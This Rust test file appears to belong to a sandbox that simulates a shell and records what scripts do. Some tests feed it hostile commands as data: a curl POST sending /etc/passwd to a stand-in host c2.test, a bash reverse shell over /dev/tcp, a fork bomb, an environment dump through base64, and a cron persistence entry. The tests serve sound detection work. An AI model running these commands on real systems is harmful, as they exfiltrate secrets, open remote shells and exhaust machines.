//! Scripts against a furnished world.

use super::*;
use crate::world::fs::Fs;
use crate::world::{Process, Stream, Wait, machine};
use std::collections::BTreeMap;

/// Nobody else runs: what is waited for does not come.
struct Alone;

impl Baton for Alone {
    fn wait(&mut self, world: Box<World>, _: Pid, wait: Wait) -> Result<Box<World>, Stopped> {
        let mut world = world;
        match wait {
            Wait::Until(time) => world.clock.jump_to(time),
            Wait::Exit(pid) => world.processes.end(pid, Exit::Code(0)),
            _ => return Err(Stopped),
        }
        Ok(world)
    }
}

fn fresh() -> Box<World> {
    let mut world = Box::<World>::default();
    world.fs = Fs::on(machine::base(&world.persona));
    world
}

/// Runs a script in a new world: what it printed on both streams, its status, and the world.
fn run_in(mut world: Box<World>, script: &str) -> (String, i32, Box<World>) {
    let env = BTreeMap::from(
        [
            ("PATH", "/usr/bin:/bin"),
            ("HOME", "/home/mwerner"),
            ("NPM_TOKEN", "npm_secret"),
        ]
        .map(|(name, value)| (name.to_owned(), value.to_owned())),
    );
    let mut process = Process {
        argv: ["sh", "-c", script].map(str::to_owned).to_vec(),
        program: "/bin/sh".to_owned(),
        cwd: "/tmp".to_owned(),
        umask: 0o022,
        env,
        ..Process::default()
    };
    world.give_console(&mut process);
    let pid = world.processes.add(process, 500).unwrap();
    // On a stack as large as that of the scheduler's threads.
    let thread = std::thread::Builder::new().stack_size(32 << 20);
    let thread = thread
        .spawn(move || run(world, pid, &mut Alone).unwrap())
        .unwrap();
    let world = thread.join().unwrap();
    let mut text = String::from_utf8(world.console.of(Stream::Output)).unwrap();
    text.push_str(&String::from_utf8(world.console.of(Stream::Error)).unwrap());
    let status = world.processes.exit_of(pid).unwrap().status();
    (text, status, world)
}

fn prints(script: &str) -> String {
    run_in(fresh(), script).0
}

fn kinds(world: &World, kind: Kind) -> Vec<String> {
    let events = world.recorder.events().iter();
    events
        .filter(|event| event.kind == kind)
        .map(|event| event.subject.clone())
        .collect()
}

#[test]
fn lists_pipes_and_conditions() {
    assert_eq!(
        prints("true && echo a || echo b; ! false && echo c"),
        "a\nc\n"
    );
    assert_eq!(prints("echo hello | tr a-z A-Z | cat"), "HELLO\n");
    assert_eq!(
        prints("if [ -d /tmp ]; then echo yes; else echo no; fi"),
        "yes\n"
    );
    assert_eq!(
        prints("for i in 1 2 3; do [ $i = 2 ] && continue; echo $i; done"),
        "1\n3\n"
    );
    assert_eq!(
        prints("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i"),
        "3\n"
    );
    assert_eq!(
        prints("case foo.js in *.ts) echo t;; *.js|*.mjs) echo j;; esac"),
        "j\n"
    );
}

#[test]
fn expansions_follow_the_rules_of_quoting() {
    assert_eq!(
        prints(r#"a="x  y"; echo $a; echo "$a"; echo '$a'"#),
        "x y\nx  y\n$a\n"
    );
    assert_eq!(
        prints(r"p=/a/b/c.tar.gz; echo ${p##*/} ${p%.*} ${p%%.*} ${p#/a}"),
        "c.tar.gz /a/b/c.tar /a/b/c /b/c.tar.gz\n"
    );
    assert_eq!(
        prints(r"echo ${none:-default} ${none:=set} $none ${#none}"),
        "default set set 3\n"
    );
    assert_eq!(
        prints(r"a=banana; echo ${a/an/AN} ${a//an/AN} ${a:1:3} ${a^^}"),
        "bANana bANANa ana BANANA\n"
    );
    assert_eq!(prints("echo $(echo $(echo deep)) `echo old`"), "deep old\n");
    assert_eq!(
        prints("echo {a,b}{1..2} $((2+3*4)) ~"),
        "a1 a2 b1 b2 14 /home/mwerner\n"
    );
    assert_eq!(
        prints(r#"set -- "a b" c; for x in "$@"; do echo "<$x>"; done; echo $#"#),
        "<a b>\n<c>\n2\n"
    );
    assert_eq!(
        prints("cd /etc; echo host[n]ame nothing*here"),
        "hostname nothing*here\n"
    );
}

#[test]
fn redirects_reach_files_and_descriptors() {
    assert_eq!(
        prints("echo one > f; echo two >> f; cat < f; wc -l < f"),
        "one\ntwo\n2\n"
    );
    assert_eq!(
        prints("cat <<EOF\n$((1+1)) $HOME\nEOF"),
        "2 /home/mwerner\n"
    );
    assert_eq!(prints("cat <<'EOF'\n$x\nEOF"), "$x\n");
    assert_eq!(prints("cat <<< word"), "word\n");
    assert_eq!(
        prints("{ echo out; echo err >&2; } 2>&1 | sort"),
        "err\nout\n"
    );
    assert_eq!(prints("ls /nowhere 2>/dev/null || echo gone"), "gone\n");
    assert_eq!(prints("exec 3> g; echo x >&3; exec 3>&-; cat g"), "x\n");
    assert_eq!(prints("cat <(echo sub)"), "sub\n");
    assert_eq!(prints("echo a &> h; cat h"), "a\n");
}

#[test]
fn functions_subshells_and_traps() {
    assert_eq!(
        prints("f() { local x=1; echo $x$1; return 3; }; x=0; f a; echo $? $x"),
        "1a\n3 0\n"
    );
    assert_eq!(prints("(cd /; x=1; exit 4); echo $? $x; pwd"), "4\n/tmp\n");
    assert_eq!(prints("trap 'echo bye' EXIT; echo hi; exit 2"), "hi\nbye\n");
    assert_eq!(run_in(fresh(), "set -e; false; echo no").1, 1);
    assert_eq!(
        prints("set -e; false || true; if false; then :; fi; echo yes"),
        "yes\n"
    );
    assert_eq!(prints("set -o pipefail; false | true; echo $?"), "1\n");
    assert!(prints("set -u; echo $undefined; echo no").contains("parameter not set"));
    assert_eq!(prints(r#"eval 'echo $((1+1))'"#), "2\n");
    assert_eq!(
        prints("[[ abc == a* && x != y && foo =~ ^f(o+)$ ]] && echo ${BASH_REMATCH[1]}"),
        "oo\n"
    );
    assert_eq!(
        prints("a=(x y z); echo ${a[1]} ${#a[@]} ${a[@]}"),
        "y 3 x y z\n"
    );
    assert_eq!(
        prints("printf 'a b\\nc d\\n' | while read x y; do echo $y$x; done"),
        "ba\ndc\n"
    );
    assert_eq!(
        prints("while getopts ab:c o -a -b v -c; do echo $o$OPTARG; done"),
        "a\nbv\ncv\n"
    );
}

#[test]
fn programs_are_processes_that_are_recorded() {
    let (text, status, world) = run_in(
        fresh(),
        "curl --version > /dev/null; nothing-here --flag; echo $?",
    );
    assert!(
        text.contains("nothing-here: not found") && text.contains("127"),
        "{text}"
    );
    assert_eq!(status, 0);
    assert_eq!(
        kinds(&world, Kind::ProcSpawn),
        ["curl --version", "nothing-here --flag"]
    );
    let missing = world
        .recorder
        .events()
        .iter()
        .find(|event| event.subject == "nothing-here --flag");
    assert!(missing.is_some_and(|event| !event.outcome.is_ok()));
}

#[test]
fn a_variable_from_outside_is_an_access_to_the_environment() {
    let (_, _, world) = run_in(
        fresh(),
        "x=1; echo $x $NPM_TOKEN; [ -n \"$CI\" ]; echo $HOME > /dev/null",
    );
    let mut read = kinds(&world, Kind::EnvRead);
    read.sort();
    assert_eq!(read, ["CI", "HOME", "NPM_TOKEN"]);
    let (_, _, world) = run_in(fresh(), "env | base64 -w0 > /dev/null");
    assert_eq!(kinds(&world, Kind::EnvList), ["*"]);
}

#[test]
fn secrets_that_leave_through_pipes_are_in_the_trace() {
    let (_, _, world) = run_in(
        fresh(),
        "cat /etc/passwd | curl -s -X POST --data-binary @- https://c2.test/up",
    );
    assert_eq!(kinds(&world, Kind::NetHttp), ["POST https://c2.test/up"]);
    assert!(kinds(&world, Kind::FileRead).contains(&"/etc/passwd".to_owned()));
}

#[test]
fn a_reverse_shell_is_a_connection_with_a_shell_on_it() {
    let (_, _, world) = run_in(fresh(), "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
    assert_eq!(kinds(&world, Kind::NetConnect), ["203.0.113.9:4444"]);
    assert_eq!(kinds(&world, Kind::ProcSpawn), ["bash -i"]);
}

#[test]
fn endless_scripts_meet_their_limits() {
    for script in [
        "while :; do :; done",
        "f() { f; }; f",
        "x=aaaaaaaa; while :; do x=$x$x; done",
        ":(){ :|:& };:",
    ] {
        let (_, _, world) = run_in(fresh(), script);
        assert!(!kinds(&world, Kind::LimitHit).is_empty(), "{script}");
    }
}

#[test]
fn downloaded_scripts_run_and_dropped_programs_are_kept() {
    let (text, _, world) = run_in(
        fresh(),
        "printf '#!/bin/sh\\necho ran $1\\n' > s; chmod +x s; ./s a; printf '\\177ELF-INERT-PAYLOAD' > m; chmod +x m; ./m; echo $?",
    );
    assert_eq!(text, "ran a\n0\n");
    assert_eq!(
        kinds(&world, Kind::GuestUnsupported),
        ["native program /tmp/m"]
    );
}

#[test]
#[expect(
    clippy::disallowed_methods,
    reason = "the test measures the host's own time"
)]
fn nested_brackets_of_all_kinds_end_soon() {
    let nest = |open: &str, inner: &str, close: &str, depth: usize| {
        format!("{}{inner}{}", open.repeat(depth), close.repeat(depth))
    };
    let scripts = [
        nest("(", "true", ")", 38),
        nest("{ ", "true;", " };", 38),
        format!("echo {}", nest("$(echo ", "x", ")", 30)),
        format!("echo {}", nest("${a:-", "x", "}", 38)),
        format!("echo $(({}))", nest("(", "1", ")", 30)),
        format!("echo {}", nest("\"$(echo ", "x", ")\"", 30)),
        format!("echo {}", nest("{a,", "b", "}", 30)),
        nest("if true; then ", "true;", " fi;", 30),
        nest("((", "1", "))", 18),
        nest("$((", "1", "))", 18),
        "!".repeat(5_000),
        "`".repeat(5_000),
        "${".repeat(5_000),
        "[[ ".repeat(2_000),
    ];
    for script in scripts {
        let started = std::time::Instant::now();
        run_in(fresh(), &script);
        let head: String = script.chars().take(40).collect();
        assert!(started.elapsed().as_secs() < 20, "{head}");
    }
}

#[test]
fn waiting_takes_virtual_time_only() {
    let (_, _, world) = run_in(fresh(), "sleep 86400; sleep 1 & wait");
    assert_eq!(kinds(&world, Kind::ClockSleep), ["86400000", "1000"]);
    assert!(world.clock.elapsed() >= 86_400_000_000_000);
}

#[test]
fn schedulers_are_written_where_they_read() {
    let (text, _, world) = run_in(fresh(), "echo '* * * * * /tmp/x' | crontab -; crontab -l");
    assert_eq!(text, "* * * * * /tmp/x\n");
    assert!(
        kinds(&world, Kind::FileWrite).contains(&"/var/spool/cron/crontabs/mwerner".to_owned())
    );
}
